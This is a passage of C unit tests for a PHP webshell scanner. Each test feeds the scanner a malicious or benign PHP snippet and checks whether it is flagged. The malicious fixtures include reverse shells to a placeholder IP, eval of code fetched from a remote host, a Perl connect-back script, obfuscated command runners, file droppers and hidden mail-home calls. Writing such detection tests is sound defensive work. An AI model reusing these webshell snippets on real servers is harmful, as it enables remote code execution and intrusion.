		for (i = 0; i < sizeof(bin); i++)
			snprintf(hex + 2 * i, 3, "%02x", bin[i]);
		snprintf(src, sizeof(src), "<?php\nfunction dll() {\n  return \"0x%s\";\n}\n", hex);
		T_HAS("x.php", src, PHPSCAN_EMBEDDED_BINARY, PHPSCAN_WEAK, 3);
		memcpy(bin, "\x7f" "ELF\2\1\1\0", 8);
		b64enc(bin, sizeof(bin), b64);
		snprintf(src, sizeof(src), "<?php\n$bc = '%s';\n", b64);
		T_HAS("x.php", src, PHPSCAN_EMBEDDED_BINARY, PHPSCAN_WEAK, 2);
		/* an image, a hex table of other bytes: data */
		memcpy(bin, "\x89PNG\r\n\x1a\n", 8);
		b64enc(bin, sizeof(bin), b64);
		snprintf(src, sizeof(src), "<?php\n$img = '%s';\n", b64);
		T_CLEAN("x.php", src);
		memcpy(bin, "MA\x90\0\3\0\0\0", 8);
		for (i = 0; i < sizeof(bin); i++)
			snprintf(hex + 2 * i, 3, "%02x", bin[i]);
		snprintf(src, sizeof(src), "<?php\n$t = '%s';\n", hex);
		T_CLEAN("x.php", src);
	}
	/* `class` in markup, a constant named Class, an anonymous class: no declaration */
	T_HAS("x.php", "<div class=\"x\"><?php $o = new class { }; echo Foo::class; $h = $_POST['h'];\n"
		       "$fp = fsockopen($h, 25);\n",
	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 2);
}

static void
test_callbacks_more(void)
{
	/* a function named in chr() calls, given input */
	T_HAS("x.php", "<?php\n$c = chr(112) . chr(97) . chr(115) . chr(115) . chr(116) . chr(104) . chr(114) . chr(117);\n"
		       "$c($_GET['x']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\n$sep = chr(9);\necho implode($sep, array($_GET['a'], $_GET['b']));\n");
	/* /e given as a literal of its own, or as mb_ereg_replace's option */
	T_HAS("x.php", "<?php\npreg_replace('/(.*)/' . 'e', $_POST['c'], 'x');\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	T_HAS("x.php", "<?php\nmb_ereg_replace('.*', $_REQUEST['c'], 'x', 'e');\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
	      2);
	T_CLEAN("x.php", "<?php\necho preg_replace('/' . preg_quote($_GET['q'], '/') . '/' . 'i', '<b>$0</b>', $text);\n"
			 "echo mb_ereg_replace('\\s+', ' ', $_GET['t'], 'msr');\n");
	/* HTTP authentication's user and password are the request's */
	T_HAS("x.php", "<?php\nif ($_SERVER['PHP_AUTH_PW'] == 'k')\n  passthru($_SERVER['PHP_AUTH_USER']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\nif (md5($_SERVER['PHP_AUTH_PW']) !== $hash) { header('WWW-Authenticate: Basic'); exit; }\n"
			 "echo htmlspecialchars($_SERVER['PHP_AUTH_USER']);\n");
	/* a global the request set, used in a function (global, $GLOBALS['k']) */
	T_HAS("x.php", "<?php\n$k = $_REQUEST['k'];\nfunction h() {\n  global $x, $k;\n  eval($k);\n}\nh();\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
	T_HAS("x.php", "<?php\n$GLOBALS['f'] = $_POST['f'];\nfunction h($a) {\n  return $GLOBALS['f']($a);\n}\necho h('x');\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	T_CLEAN("x.php", "<?php\n$k = 'strtoupper';\n$q = $_GET['q'];\nfunction h() {\n  global $k;\n  return $k('x');\n}\n"
			 "function g() {\n  return strlen($GLOBALS['q']);\n}\necho h(), g();\n");
	/* assert() of a variable alone: code, when it holds a string */
	T_HAS("x.php", "<?php\n$buf = '';\nfunction keep($b) {\n  global $buf;\n  $buf = $b;\n}\nob_start('keep');\n"
		       "echo $_REQUEST['q'];\nob_end_flush();\n@assert($buf);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 10);
	T_CLEAN("x.php", "<?php\n$r = db_server_info($c);\nassert($r instanceof stdClass);\nassert(is_array($list));\n"
			 "function f($ok) {\n  assert($ok);\n}\nclass A { function g() { assert($this); } }\n");
	/* $$a with $a naming a variable the request set */
	T_HAS("x.php", "<?php\n$a = 'b';\n$b = $_GET['x'];\neval($$a);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	T_CLEAN("x.php", "<?php\n$a = 'b';\n$b = $_GET['x'];\necho htmlspecialchars($$a);\n$c = 'd';\n$d = 'x';\neval($$c);\n");
	/* one runner after another from a list, given input */
	T_HAS("x.php", "<?php\nforeach (array('shell_exec', 'passthru', 'system') as $fn)\n"
		       "  if (function_exists($fn)) { echo $fn($_POST['c']); break; }\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* ... given a fixed command; a list of string functions given input */
	T_CLEAN("x.php", "<?php\nforeach (array('shell_exec', 'exec') as $fn)\n  if (function_exists($fn)) echo $fn('uptime');\n");
	T_CLEAN("x.php", "<?php\n$m = array('trim', 'strtolower');\nforeach ($m as $f) $v = $f($_GET['v']);\n");
	/* request input written to a file, then that file included */
	T_HAS("x.php", "<?php\n$t = tempnam('/tmp', 'c');\nfile_put_contents($t, '<?php ' . $_POST['c']);\ninclude($t);\n",
	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 4);
	T_HAS("x.php", "<?php\n$f = fopen(dirname(__FILE__) . '/s.php', 'w');\nfwrite($f, $_REQUEST['d']);\nfclose($f);\n"
		       "require dirname(__FILE__) . '/s.php';\n",
	      PHPSCAN_INCLUDE_OF_INPUT, PHPSCAN_WEAK, 5);
	/* ... another file included: the page's own header */
	T_CLEAN("x.php", "<?php\nfile_put_contents('media/' . md5($_POST['n']) . '.jpg', base64_decode($_POST['img']));\n"
			 "require 'top.php';\n");
	T_CLEAN("x.php", "<?php\n$f = fopen('log.txt', 'a');\nfwrite($f, $_POST['msg']);\nrequire 'footer.php';\n");
	/* what a URL fetched through curl returns is the sender's: run, it is input run */
	T_HAS("x.php", "<?php\n$ch = curl_init('http://198.51.100.7/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
		       "$code = curl_exec($ch);\neval('?>' . $code);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
	T_CLEAN("x.php", "<?php\n$ch = curl_init('https://api.example.org/v1/rates');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
			 "$data = json_decode(curl_exec($ch), true);\nfile_put_contents('cache/rates.json', json_encode($data));\n"
			 "echo htmlspecialchars($data['eur']);\n");
	T_HAS("x.php", "<?php preg_replace_callback('/.*/', $_POST['f'], 'x');", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_HIGH, 1);
	T_HAS("x.php", "<?php\nset_error_handler($_GET['h']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	T_HAS("x.php", "<?php\n$c = $_REQUEST['c'];\narray_udiff_assoc(array($c), array(1), $_GET['f']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* extract() of the request, then a variable function: the request names it */
	T_HAS("x.php", "<?php\nextract($_REQUEST);\n$a($b);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_WEAK, 3);
	/* an element the request set, called */
	T_HAS("x.php", "<?php\n$h['f'] = $_POST['f'];\n$h['f']($_POST['a']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\n$h = array();\n$h['f'] = $_POST['f'];\n$h['f']('x');\n", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_WEAK, 4);
	/* callbacks of the file's own */
	T_CLEAN("x.php", "<?php preg_replace_callback('/x/', function ($m) { return $m[0]; }, $_GET['s']);"
			 " set_error_handler('my_handler'); spl_autoload_register(array($this, 'load'));");
	T_CLEAN("x.php", "<?php extract($_POST); $cb = 'strtoupper'; echo $cb($name);");
}

/* behaviours of a page as a whole: what it guards, shows, rewrites, wires */
static void
test_gates_and_reads(void)
{
	/* a password gate in front of a tool: a hash of input held against a
	 * constant the page carries (literal, or a variable given one), or a
	 * password field compared with a literal */
	T_HAS("x.php", "<?php\n$auth = 'e10adc3949ba59abbe56e057f20f883e';\n"
		       "if (isset($_COOKIE['k']) && md5($_COOKIE['k']) === $auth) {\n"
		       "  foreach (scandir($_GET['d']) as $f) echo $f, '<br>';\n}\n",
	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\nif ($_POST['pass'] != 'letmein') die('no');\n"
		       "move_uploaded_file($_FILES['f']['tmp_name'], 'up/x.dat');\n",
	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\nif (password_verify($_POST['p'], '$2y$10$abcdefghijklmnopqrstuuabcdefghij')) {\n"
		       "  $c = 'uptime'; echo `$c`; exec('id', $o); print_r($o);\n}\n",
	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 2);
	/* a login checked against the database, a form field compared: no gate */
	T_CLEAN("x.php", "<?php\nif (md5($_POST['password']) == $row['hash']) { $_SESSION['u'] = 1; }\n"
			 "foreach (scandir('themes') as $t) echo $t;\n");
	T_CLEAN("x.php", "<?php\nif ($_POST['action'] == 'list') { foreach (scandir('docs') as $d) echo $d; }\n");
	/* the page rewrites itself, dates itself back, write-protects itself */
	T_HAS("x.php", "<?php\n$c = file_get_contents(__FILE__);\nfile_put_contents(__FILE__, str_replace('a', 'b', $c));\n",
	      PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\ntouch(__FILE__, filemtime('index.php'));\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n@chmod(__FILE__, 0444);\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n$h = fopen($_SERVER['SCRIPT_FILENAME'], 'w');\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\n$me = file_get_contents(__FILE__);\n@chmod(__FILE__, 0644);\ntouch(__FILE__);\n"
			 "$h = fopen(__FILE__, 'r');\n");
	/* a file the request names, whole, read and shown */
	T_HAS("x.php", "<?php\nreadfile($_GET['f']);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n$f = $_REQUEST['file'];\necho htmlspecialchars(file_get_contents(trim($f)));\n",
	      PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\nclass V {}\nshow_source($_GET['s']);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\nreadfile('files/' . basename($_GET['f']));\n"
			 "echo file_get_contents($dir . '/' . $_GET['page'] . '.html');\n");
	T_CLEAN("x.php", "<?php\nrequire 'lib/app.php';\nreadfile($_GET['f']);\n");
	/* ... or a directory the request names, listed or entered */
	T_HAS("x.php", "<?php\n$d = $_GET['d'];\nforeach (scandir($d) as $f) echo $f, '<br>';\n", PHPSCAN_FILE_DISCLOSURE,
	      PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\nif (isset($_POST['dir'])) chdir($_POST['dir']);\n$h = opendir('.');\n",
	      PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\nforeach (scandir('gallery/' . basename($_GET['album'])) as $f) echo $f;\n"
			 "chdir(__DIR__);\n$h = opendir($base . $_GET['d']);\n");
	/* fopen to write is an editor (write-of-input), no disclosure */
	T_HAS("x.php", "<?php\n$f = $_POST['p'];\nfwrite(fopen($f, 'w'), $_POST['b']);\n", PHPSCAN_WRITE_OF_INPUT,
	      PHPSCAN_WEAK, 3);
	T_CHECK(find(PHPSCAN_FILE_DISCLOSURE) == NULL, "fopen($f, 'w') is no file disclosure");
	T_HAS("x.php", "<?php\n$h = fopen($_GET['p'], 'rb');\nfpassthru($h);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 2);
	/* code included from a file named as an image or an icon */
	T_HAS("x.php", "<?php\n@include \"/var/www/img/favicon_1a2b.ico\";\n", PHPSCAN_PHP_IN_NON_PHP, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\nrequire_once dirname(__FILE__) . '/lib/' . $name . '.php';\n"
			 "echo '<img src=\"logo.png\">';\ninclude 'header.html';\n");
	T_HAS("x.php", "<?php\ncopy($_FILES['f']['tmp_name'], 'x.php');\n", PHPSCAN_WRITE_OF_INPUT, PHPSCAN_WEAK, 2);
	/* the request's data written into a PHP file by a page standing alone */
	T_HAS("x.php", "<?php\nfile_put_contents('cache.php', $_POST['c']);\n", PHPSCAN_WRITE_OF_INPUT, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n$fp = fopen('x.php', 'w');\nfwrite($fp, $_POST['c']);\n", PHPSCAN_WRITE_OF_INPUT,
	      PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\nrequire 'lib/install.php';\nfile_put_contents('config.php', $_POST['c']);\n"
			 "file_put_contents('log.txt', $_POST['c']);\n");
}

static void
test_objects_sockets_methods(void)
{
	/* properties of an object the request's data was decoded into */
	T_HAS("x.php", "<?php\n$o = json_decode($_POST['j']);\neval($o->code);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
	      3);
	T_HAS("x.php", "<?php\n$d = unserialize(base64_decode($_COOKIE['d']));\nsystem($d->cmd);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\n$o = json_decode($_POST['j']);\necho htmlspecialchars(strtolower($o->name));\n"
			 "$u = new User($_POST['id']);\neval($u->code);\n");
	/* a variable function given one literal: what that function is */
	T_CLEAN("x.php", "<?php\n$f = 'strtolower';\necho $f($_GET['x']);\n");
	T_HAS("x.php", "<?php\n$f = 'system';\n$f($_GET['x']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\n$f = 'error_log';\n$f($_POST['a'], 3, $_POST['b']);\n", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_HIGH, 3);
	/* what a socket the page opened sends is the other end's */
	T_HAS("x.php", "<?php\n$s = fsockopen('203.0.113.9', 4444);\n"
		       "while (!feof($s)) { $c = fgets($s, 1024); fwrite($s, shell_exec($c)); }\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\n$s = fsockopen('203.0.113.9', 4444);\n"
		       "proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $p);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\n$fp = fsockopen('smtp.example.org', 25);\n$g = fgets($fp, 512);\n"
			 "if (strpos($g, '220') !== 0) die(htmlspecialchars($g));\n");
	/* methods and constructors of the file's own classes that run their parameter */
	T_HAS("x.php", "<?php\nclass R { public function run($c) { return shell_exec($c); } }\n$r = new R();\n"
		       "echo $r->run($_POST['c']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
	T_HAS("x.php", "<?php\nclass A { function __construct($c) { eval($c); } }\nnew A($_GET['c']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\nclass B { static function go($c) { system($c); } }\nB::go($_REQUEST['x']);\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\nclass R { function run($c) { return strtoupper($c); } function sh($c) { return system($c); } }\n"
			 "$r = new R();\necho $r->run($_POST['c']);\n$r->sh('uptime');\n");
	/* a runner's name given to $GLOBALS, called from there */
	T_HAS("x.php", "<?php\n$GLOBALS['f'] = 'sys' . 'tem';\n$GLOBALS['f']($_GET['c']);\n", PHPSCAN_EXEC_OF_INPUT,
	      PHPSCAN_HIGH, 3);
	/* list() = input */
	T_HAS("x.php", "<?php\nlist($a, $b) = array_values($_POST);\n$a($b);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\nlist($app, $x) = explode('/', $_POST['h']);\n"
			 "$r = parse_ini_file('apps/' . $app . '/embed.ini', true);\necho call_user_func($r['f'], 1);\n");
	T_HAS("x.php", "<?php\n[$f, $a] = [$_POST['f'], $_POST['a']];\n$f($a);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* an assignment inside a condition, a function returning the request's input */
	T_HAS("x.php", "<?php\nif (isset($_GET['c']) && ($cmd = $_GET['c'])) { echo shell_exec($cmd); }\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	T_HAS("x.php", "<?php\nfunction g($k) { return isset($_REQUEST[$k]) ? $_REQUEST[$k] : ''; }\nsystem(g('c'));\n",
	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_CLEAN("x.php", "<?php\nif ($n = intval($_GET['n'])) { echo eval('return ' . $n . ' * 2;'); }\n"
			 "function g($k) { return isset($_REQUEST[$k]) ? 1 : 0; }\nsystem(g('c') ? 'uptime' : 'date');\n");
	/* an own decoder's output kept in a variable, then eval'd, in a page of no application */
	T_HAS("x.php", "<?php\nfunction d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) - 1); return $o; }\n"
		       "$c = d('fdip!2<');\neval($c);\n",
	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_WEAK, 4);
	T_CLEAN("x.php", "<?php\nrequire 'lib/tpl.php';\n$c = compile_template('page');\neval('?>' . $c);\neval($c);\n");
	/* which runners did the host leave? then one is run */
	T_HAS("x.php", "<?php\n$df = ini_get('disable_functions');\n"
		       "if (strpos($df, 'exec') === false) { exec($c, $o); echo join(\"\\n\", $o); }\n"
		       "else echo shell_exec($c);\n",
	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\nif (function_exists('exec')) { exec('convert -version', $o); }\n");
	/* a connect-back script carried in a literal, as text or in base64 */
	T_HAS("x.php", "<?php\n$bc = \"#!/usr/bin/perl\\nuse Socket;\\nsocket(S, PF_INET, SOCK_STREAM, 6);\\n"
		       "connect(S, $a);\\nopen(STDIN, '>&S');\\nexec('/bin/sh -i');\";\n",
	      PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n$bc = 'IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7CnNvY2tldChTLCBQRl9JTkVULCBTT0NLX1NUUkVBTSwgNik7"
		       "CmV4ZWMoJy9iaW4vc2ggLWknKTsK';\n",
	      PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\n$help = 'The socket could not be opened: check the server address and port, then retry.';\n");
}

/* what a shell does, told by evidence of its own beside the other checks */
static void
test_shell_behaviours(void)
{
	/* a shell's header: who it runs as, the host, the disk, the restrictions,
	 * in a page of no application that also runs commands or changes files */
	T_HAS("x.php", "<?php\necho php_uname() . '<br>';\n$u = posix_getpwuid(posix_geteuid());\n"
		       "echo $u['name'], ' ', disk_free_space('/'), ' safe mode: ', ini_get('safe_mode');\n"
		       "if (isset($_POST['c'])) echo shell_exec('ls -la');\n",
	      PHPSCAN_HOST_RECON, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\n$d = opendir('.');\nwhile ($f = readdir($d)) echo $f;\nunlink('old.txt');\n"
		       "echo get_current_user(), getmyuid(), disk_total_space('.');\n",
	      PHPSCAN_HOST_RECON, PHPSCAN_WEAK, 5);
	/* the same questions in an application's status page, a command-line
	 * script, or beside no tool; settings of its own asked: none */
	T_CLEAN("x.php", "<?php\nrequire 'lib/app.php';\necho php_uname(), get_current_user(), disk_free_space('/');\n"
			 "unlink($cache);\n");
	T_CLEAN("x.php", "<?php\necho php_uname(), get_current_user(), disk_free_space('/');\n");
	T_CLEAN("x.php", "<?php\nif (PHP_SAPI !== 'cli') exit;\necho php_uname(), getmyuid(), disk_free_space('/');\n"
			 "unlink($argv[1]);\n");
	T_CLEAN("x.php", "<?php\necho php_uname(), ini_get('memory_limit'), ini_get('upload_max_filesize');\n"
			 "file_put_contents('info.txt', phpversion());\n");
	/* $f = passthru;: a runner named by a bare word (an undefined constant,
	 * its own name before PHP 8), given input */
	T_HAS("x.php", "<?php\n$f = passthru;\necho $f($_POST['cmd']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	T_HAS("x.php", "<?php\n$run=System?>\n<?php $run($_GET['c']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* an application's constant of that name, a constant in capitals: no runner */
	T_CLEAN("x.php", "<?php\n$mode = SYSTEM;\necho $mode($_GET['x']);\n");
	T_CLEAN("x.php", "<?php\n$m = Config::system;\n$n = strtolower;\n");
	/* a function of its own running its parameter through one runner after
	 * another, called at the top level: a command page (also without a form) */
	T_HAS("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return join(\"\\n\", $o); }\n"
		       " elseif (function_exists('shell_exec')) return shell_exec($c);\n return '';\n}\n"
		       "function which($p) { $w = ex('which ' . $p); return $w ? $w : $p; }\n"
		       "ex(which('perl') . ' /tmp/.b 203.0.113.9 4444 &');\n",
	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 3);
	/* ... defined and never called from the top level, or in a command-line script */
	T_CLEAN("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return $o; }\n"
			 " return shell_exec($c);\n}\n");
	T_CLEAN("x.php", "<?php\nfunction ex($c) {\n if (function_exists('exec')) { exec($c, $o); return $o; }\n"
			 " return shell_exec($c);\n}\nex('git ' . $argv[1]);\n");
	/* a tool in one file that carries a class of its own (an archiver): judged
	 * as a page standing alone, its methods included */
	T_HAS("x.php", "<?php\nclass Zipper { function add($d) { foreach (scandir($d) as $f) $this->files[] = $f; } }\n"
		       "$d = $_GET['d'];\nif (isset($_POST['del'])) unlink($d . '/' . $_POST['del']);\n"
		       "$z = new Zipper();\n$z->add($d);\n",
	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 2);
	T_HAS("x.php", "<?php\nclass Db { function q($s) { $l = mysqli_connect('localhost', $_POST['u'], $_POST['p']);\n"
		       " return mysqli_query($l, $s); } }\n$db = new Db();\nprint_r($db->q($_POST['sql']));\n",
	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 2);
	/* ... not one in a namespace, one including code, one reading the request
	 * in its methods alone, a command-line script */
	T_CLEAN("x.php", "<?php\nnamespace App\\Files;\nclass Zipper { function add($d) { return scandir($d); } }\n"
			 "$d = $_GET['d'];\nunlink($d . '/' . $_POST['del']);\n");
	T_CLEAN("x.php", "<?php\nrequire_once 'lib/init.php';\nclass Zipper { function add($d) { return scandir($d); } }\n"
			 "$d = $_GET['d'];\nunlink($d . '/' . $_POST['del']);\n");
	T_CLEAN("x.php", "<?php\nclass Cache { function clear() { foreach (scandir($_GET['d']) as $f) unlink($f); } }\n"
			 "$c = new Cache();\n");
	T_CLEAN("x.php", "<?php\nclass Zipper { function add($d) { return scandir($d); } }\nif (PHP_SAPI !== 'cli') exit;\n"
			 "$d = $_GET['d'];\nunlink($d . '/' . $argv[1]);\n");
	/* mail to an address the page hides: decoded, directly or through a variable */
	T_HAS("x.php", "<?php\n$m = base64_decode('b3duZXJAZXhhbXBsZS5vcmc=');\n$b = $_SERVER['SCRIPT_FILENAME'];\n"
		       "mail($m, 'new', $b);\n",
	      PHPSCAN_MAIL_HOME, PHPSCAN_WEAK, 4);
	T_HAS("x.php", "<?php\n@mail(str_rot13('bjare@rknzcyr.bet'), 'cc', $_POST['cc']);\n", PHPSCAN_MAIL_HOME,
	      PHPSCAN_WEAK, 2);
	/* a fixed address; an attachment encoded in the body */
	T_CLEAN("x.php", "<?php\n$to = 'office@example.org';\n$att = chunk_split(base64_encode(file_get_contents('r.pdf')));\n"
			 "mail($to, 'report', \"--b\\r\\nContent-Transfer-Encoding: base64\\r\\n\\r\\n\" . $att, $h);\n");
	/* a page of no application running code it does not carry: what it
	 * fetched, read or was sent, eval'd or called by a variable's name,
	 * whether or not the request's data can be followed there */
	T_HAS("x.php", "<?php\n$c = apcu_fetch('job');\neval($c);\n", PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\n$j = file_get_contents('/tmp/.j');\neval(stripslashes($j));\n", PHPSCAN_CODE_RUNNER,
	      PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php @eval($_POST['x']); ?>", PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 1);
	T_HAS("x.php", "<?php\n$k = array_keys($_COOKIE);\n$f = $k[1];\n$f($k[0]);\n", PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 4);
	T_HAS("x.php", "<?php\n$l = file('/tmp/.q');\narray_map('assert', $l);\n", PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\n$c = file_get_contents('/tmp/.q');\n$f = 'sys' . 'tem';\n$f($c);\n", PHPSCAN_CODE_RUNNER,
	      PHPSCAN_WEAK, 4);
	T_HAS("x.php", "<?php\n$p = array('p', 'a', 's', 's', 't', 'h', 'r', 'u');\n$n = '';\nforeach ($p as $c)\n  $n .= $c;\n"
		       "$n($_GET['q']);\n",
	      PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 6);
	T_HAS("x.php", "<?php\n$k = explode('-', 'x-sys-tem');\nregister_shutdown_function($k[1] . $k[2], $_POST['q']);\n",
	      PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\n$v = array_map('trim', $_POST);\nusort($v, 'strcmp');\n$f = 'htmlspecialchars';\n"
			 "echo $f($v[0]);\n");
	/* the same calls in an application's page (a class, an import, included
	 * code), in functions, in a command-line script; a template calling the
	 * closures its includer gives it; a fixed function's name; a literal */
	T_CLEAN("x.php", "<?php\nuse App\\View;\n$cb = View::get('empty');\nif ($cb instanceof Closure) echo $cb();\n");
	T_CLEAN("x.php", "<?php\nrequire 'lib.php';\n$c = load_code('job');\neval($c);\n");
	T_CLEAN("x.php", "<?php\nclass Job { function run() { $f = $this->f; return $f(); } }\n");
	T_CLEAN("x.php", "<?php\nfunction run($f, $a) { return $f($a); }\n");
	T_CLEAN("x.php", "<?php\n$c = file_get_contents($argv[1]);\neval($c);\n");
	T_CLEAN("x.php", "<p style=\"color: <?= $darkColor(0.5); ?>\">Welcome</p>\n");
	T_CLEAN("x.php", "<?php\n$f = 'strtoupper';\necho $f('a');\neval('return 1;');\n");
	T_CLEAN("x.php", "<?php\n$f = trim(file_get_contents('/tmp/.f'));\necho $f('a');\n$o = load();\neval($o->code);\n");
	/* a file written under a name the page decodes: where a dropper plants, hidden */
	T_HAS("x.php", "<?php\n$b = $_POST['b'];\nfile_put_contents(base64_decode('Y2FjaGUucGhw'), $b);\n", PHPSCAN_HIDDEN_WRITE,
	      PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<?php\n$h = fopen(pack('H*', '782e706870'), 'w');\nfwrite($h, $data);\n", PHPSCAN_HIDDEN_WRITE,
	      PHPSCAN_WEAK, 2);
	/* the content decoded, not the name; a decoded name read; an application's class */
	T_CLEAN("x.php", "<?php\nfile_put_contents('logo.gif', base64_decode('R0lGODlhAQABAAAAACw='));\n"
			 "$h = fopen(base64_decode($n), 'r');\n");
	T_CLEAN("x.php", "<?php\nclass Store { function put($k, $v) { file_put_contents(base64_decode($k), $v); } }\n");
	/* a name spelled by xor'ing characters picked out of strings, no literal
	 * of it anywhere, then called: a packer's runner */
	T_HAS("x.php", "<?php\n$a = array();\n$a[] = 7 * 3;\n$a[] = $a[0] . 40;\n"
		       "$f = ($a[1][0] ^ $a[1][1]) . ($a[1][2] ^ $a[1][3]);\n$f($a[1]);\n",
	      PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 6);
	/* the same xor of characters in a checksum, never called */
	T_CLEAN("x.php", "<?php\n$a = 'abcd';\n$b = 'wxyz';\n$h = ($a[0] ^ $b[1]) . ($a[2] ^ $b[3]);\n"
			 "echo bin2hex($h);\n");
	/* code kept in a doc comment, read back through reflection and run */
	T_HAS("x.php", "<?php\n/** system($_GET['c']); */\nfunction f() {}\n$r = new ReflectionFunction('f');\n"
		       "$c = $r->getDocComment();\neval(substr($c, 4, 20));\n",
	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 6);
	/* annotations read: a route's path shown */
	T_CLEAN("x.php", "<?php\n$r = new ReflectionMethod('Page', 'show');\n$d = $r->getDocComment();\n"
			 "if (preg_match('/@route (\\S+)/', $d, $m))\n  echo htmlspecialchars($m[1]);\n");
	/* a stylesheet allowed to call every function of PHP (eval's kin with
	 * them), in a page of no application: code run by a detour */
	T_HAS("x.php", "<?php\n$x = new DOMDocument();\n$x->loadXML($s);\n$p = new XSLTProcessor();\n"
		       "$p->registerPHPFunctions();\n$p->importStyleSheet($x);\necho $p->transformToXML($d);\n",
	      PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 5);
	/* the functions it may call named; an application's class doing it */
